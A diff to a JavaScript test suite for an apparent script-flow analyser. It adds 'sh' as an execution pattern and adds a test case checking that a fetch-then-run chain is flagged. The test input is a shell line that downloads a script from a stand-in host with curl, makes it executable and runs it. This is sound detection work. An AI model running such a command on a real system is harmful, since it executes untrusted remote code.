@@ -14,6 +14,7 @@ const stores = {
     { pattern: 'requests.post', tag: 'net' },
     { pattern: 'axios.post', tag: 'net' },
     { pattern: 'bash', tag: 'exec' },
+    { pattern: 'sh', tag: 'exec' },
   ],
 }
 
@@ -41,6 +42,12 @@ it.each([
     'a.sh',
     'curl -so /tmp/i.sh https://a.example/i\nbash /tmp/i.sh',
     'curl(https://a.example/i) -> bash via a.sh:1 a.sh:2',
+  ],
+  [
+    'what was fetched into a file and is started by its path',
+    'a.sh',
+    'curl -so /tmp/i.sh https://a.example/i && chmod +x /tmp/i.sh && /tmp/i.sh',
+    'curl(https://a.example/i) -> sh via a.sh:1',
   ],
 ])('%s', async (_, path, text, flow) => {
   expect(flows(await factsOf({ [path]: text }, [stores]))).toContain(flow)
